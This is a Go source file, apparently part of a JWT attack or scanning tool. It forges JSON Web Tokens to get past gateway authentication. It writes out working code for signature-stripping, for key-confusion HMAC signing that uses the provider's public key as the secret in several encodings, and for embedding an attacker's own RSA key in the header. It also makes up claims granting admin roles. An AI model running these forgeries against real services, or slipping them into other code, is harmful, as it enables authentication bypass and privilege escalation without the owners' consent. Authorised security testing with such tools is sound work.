package attack

import (
	"context"
	"crypto"
	"crypto/hmac"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"errors"
	"io"
	"maps"
	"math/big"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"time"
)

// token is a JWT taken apart.
type token struct {
	header, claims map[string]any
	parts          []string
}

var errNoJWT = errors.New("the token that was given is no signed JWT (three parts with dots between)")

func readToken(raw string) (*token, error) {
	t := &token{parts: strings.Split(strings.TrimSpace(raw), ".")}
	if len(t.parts) != 3 {
		return nil, errNoJWT
	}
	for i, into := range []*map[string]any{&t.header, &t.claims} {
		text, err := base64.RawURLEncoding.DecodeString(t.parts[i])
		if err != nil || json.Unmarshal(text, into) != nil {
			return nil, errNoJWT
		}
	}
	return t, nil
}

// claims are those of the token that was given, else made-up ones that a careless gateway would take.
func (r *run) claims() map[string]any {
	now := time.Now().Unix()
	if r.token != nil {
		c := maps.Clone(r.token.claims)
		c["exp"], c["iat"] = now+600, now
		return c
	}
	return map[string]any{
		"iss": r.Issuer, "aud": "api://default", "sub": "somebody@example.com", "cid": "0oa", "exp": now + 600, "iat": now,
		"scp": []string{"openid"}, "roles": []string{"ONE_STS_ADMIN"}, "groups": []string{"ONE_STS_ADMIN", "admin"},
	}
}

// head is the header of the token that was given, changed.
func (r *run) head(changes map[string]any) map[string]any {
	h := map[string]any{"alg": "RS256", "kid": "k"}
	if r.token != nil {
		maps.Copy(h, r.token.header)
	}
	maps.Copy(h, changes)
	return h
}

func encode(v any) string {
	text, _ := json.Marshal(v) // maps of what marshals
	return base64.RawURLEncoding.EncodeToString(text)
}

// unsigned has any text for its signature.
func (r *run) unsigned(header map[string]any, signature string) string {
	return encode(header) + "." + encode(r.claims()) + "." + signature
}

func (r *run) hmac(header map[string]any, secret []byte) string {
	input := encode(header) + "." + encode(r.claims())
	mac := hmac.New(sha256.New, secret)
	mac.Write([]byte(input))
	return input + "." + base64.RawURLEncoding.EncodeToString(mac.Sum(nil))
}

// attackers is a key that nobody may trust.
var attackers = sync.OnceValues(func() (*rsa.PrivateKey, error) { return rsa.GenerateKey(rand.Reader, 2048) })

// own signs by the attacker's key, which the header may recommend.
func (r *run) own(header map[string]any) (string, error) {
	key, err := attackers()
	if err != nil {
		return "", err
	}
	public := map[string]any{
		"kty": "RSA", "alg": "RS256", "use": "sig", "n": base64.RawURLEncoding.EncodeToString(key.N.Bytes()),
		"e": base64.RawURLEncoding.EncodeToString(big.NewInt(int64(key.E)).Bytes()),
	}
	if header["jwk"] == true {
		header["jwk"] = public
	}
	input := encode(header) + "." + encode(r.claims())
	sum := sha256.Sum256([]byte(input))
	signature, err := rsa.SignPKCS1v15(rand.Reader, key, crypto.SHA256, sum[:])
	return input + "." + base64.RawURLEncoding.EncodeToString(signature), err
}

// secretsOf are the forms in which a public key was taken for a secret.
func secretsOf(key *rsa.PublicKey) map[string][]byte {
	pkix, err := x509.MarshalPKIXPublicKey(key)
	if err != nil {
		return nil
	}
	pkcs1 := x509.MarshalPKCS1PublicKey(key)
	text := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: pkix})
	return map[string][]byte{
		"PEM": text, "PEM without the last line end": []byte(strings.TrimSuffix(string(text), "\n")),
		"PEM of PKCS 1": pem.EncodeToMemory(&pem.Block{Type: "RSA PUBLIC KEY", Bytes: pkcs1}),
		"DER":           pkix, "DER of PKCS 1": pkcs1, "modulus": key.N.Bytes(),
		"modulus in base64": []byte(base64.RawURLEncoding.EncodeToString(key.N.Bytes())),
	}
}

// fetchKeys reads the identity provider's public keys, as anybody can. What fails leaves none.
func (r *run) fetchKeys() (keys []*rsa.PublicKey) {
	if r.Issuer == "" {
		return nil
	}
	var meta struct {
		JWKSURI string `json:"jwks_uri"`
	}
	if !r.fetch(strings.TrimSuffix(r.Issuer, "/")+"/.well-known/openid-configuration", &meta) {
		return nil
	}
	if !sameHost(r.Issuer, meta.JWKSURI) { // nobody leads us elsewhere
		return nil
	}
	var set struct {
		Keys []struct{ Kty, N, E string } `json:"keys"`
	}
	if !r.fetch(meta.JWKSURI, &set) {
		return nil
	}
	for _, k := range set.Keys {
		n, errN := base64.RawURLEncoding.DecodeString(k.N)
		e, errE := base64.RawURLEncoding.DecodeString(k.E)
		if k.Kty == "RSA" && errN == nil && errE == nil && len(keys) < 3 {
			keys = append(keys, &rsa.PublicKey{N: new(big.Int).SetBytes(n), E: int(new(big.Int).SetBytes(e).Int64())})
		}
	}
	return keys
}

// sameHost tells whether both are addresses of one host, by https unless the target is on this machine.
func sameHost(a, b string) bool {
	one, errA := url.Parse(a)
	other, errB := url.Parse(b)
	return errA == nil && errB == nil && one.Host == other.Host && one.Scheme == other.Scheme
}

func (r *run) fetch(address string, into any) bool {
	if !r.Local && !strings.HasPrefix(address, "https://") {
		return false
	}
	ctx, cancel := context.WithTimeout(r.ctx, patience)
	defer cancel()
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, address, http.NoBody)
	if err != nil {
		return false
	}
	resp, err := r.client.RoundTrip(req)
	if err != nil {
		return false
	}
	defer resp.Body.Close()
	return json.NewDecoder(io.LimitReader(resp.Body, mostBody)).Decode(into) == nil
}
